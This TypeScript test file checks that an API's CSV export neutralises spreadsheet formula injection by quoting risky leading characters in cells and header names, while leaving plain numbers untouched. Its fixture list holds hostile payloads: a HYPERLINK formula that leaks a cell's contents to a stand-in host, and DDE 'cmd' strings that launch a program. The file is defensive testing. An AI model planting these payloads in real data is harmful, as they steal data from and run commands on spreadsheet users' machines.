// Issue 14, item 4: `accept=csv` must not hand a spreadsheet a formula. Cells (and header names,
// which clients can choose) starting with =, +, -, @, tab or carriage return get a leading `'`;
// a cell that is wholly one number (-5, +15551234567) is left alone; quoting stays RFC 4180.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cell } from "../../server/http/csv.js";
import { startApi, type TestApi } from "../helpers/api.js";

/** RFC 4180 reader: rows of cells, quotes undone. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let value = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        value += '"';
        i++;
      } else if (c === '"') quoted = false;
      else value += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(value);
      value = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(value);
      rows.push(row);
      row = [];
      value = "";
      i++;
    } else value += c;
  }
  return rows;
}

const HOSTILE_NAMES = [
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
];

let api: TestApi;
let token: string;
let accountId: string;

beforeAll(async () => {
  api = await startApi();
  ({ token, accountId } = await api.login("admin"));
});
afterAll(async () => {
  await api.close();
});

describe("CSV cells", () => {
  it("prefixes a quote to cells a spreadsheet would read as a formula, and quotes separators", () => {
    expect(cell("=1+1")).toBe("'=1+1");
    expect(cell("@A1")).toBe("'@A1");
    expect(cell("\t=1")).toBe("\"'\t=1\"");
    expect(cell("a;=cmd")).toBe('"a;=cmd"');
    expect(cell('say "hi"')).toBe('"say ""hi"""');
    expect(cell("plain")).toBe("plain");
    expect(cell("")).toBe("");
  });

  it("leaves a cell that is wholly one number as it is: negative amounts and E.164 numbers", () => {
    for (const number of ["-5", "+15551234567", "-0.25", "1e3", "+1.5E-3"]) expect(cell(number)).toBe(number);
    for (const notNumber of ["-5+1", "+1 555 123", "--5", "+1e", "-"]) expect(cell(notNumber)).toBe(`'${notNumber}`);
  });
});

describe("accept=csv from the API", () => {
  it("neutralises hostile device names and keys, keeps numbers, and every cell reads back to what was stored", async () => {
    const ids: string[] = [];
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      const res = await api.call<{ id: string }>("PUT", `/v2/accounts/${accountId}/devices`, {
        token,
        data: { name, csv_offset: -5 - i, caller_id: { external: { number: "+15551234567" } }, "=key": "x" },
      });
      expect(res.status, res.text).toBe(201);
      ids.push(res.body.data.id);
    }
    const list = await api.call("GET", `/v2/accounts/${accountId}/devices`, { token, query: { accept: "csv", paginate: "false" } });
    expect(list.status).toBe(200);
    const [listHeader = [], ...listRows] = readCsv(list.text);
    const names = new Map(listRows.map((r) => [r[listHeader.indexOf("id")] ?? "", r[listHeader.indexOf("name")]]));
    for (const [i, name] of HOSTILE_NAMES.entries()) expect(names.get(ids[i] ?? ""), JSON.stringify(name)).toBe(`'${name}`);
    const cells: string[][] = [listHeader, ...listRows];
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      const res = await api.call("GET", `/v2/accounts/${accountId}/devices/${ids[i] ?? ""}`, { token, headers: { Accept: "text/csv" } });
      expect(res.status).toBe(200);
      const [header = [], row = []] = readCsv(res.text);
      const at = (column: string) => row[header.indexOf(column)];
      expect(header).toContain("'=key");
      expect(at("name")).toBe(`'${name}`);
      expect(at("csv_offset")).toBe(String(-5 - i));
      expect(at("caller_id.external.number")).toBe("+15551234567");
      cells.push(header, row);
    }
    // No cell of the whole answer starts a formula.
    for (const r of cells) {
      for (const c of r) if (/^\s*[=+\-@\t\r]/.test(c)) expect(c, "a cell starting a formula").toMatch(/^[+-]\d+$/);
    }
  });
});
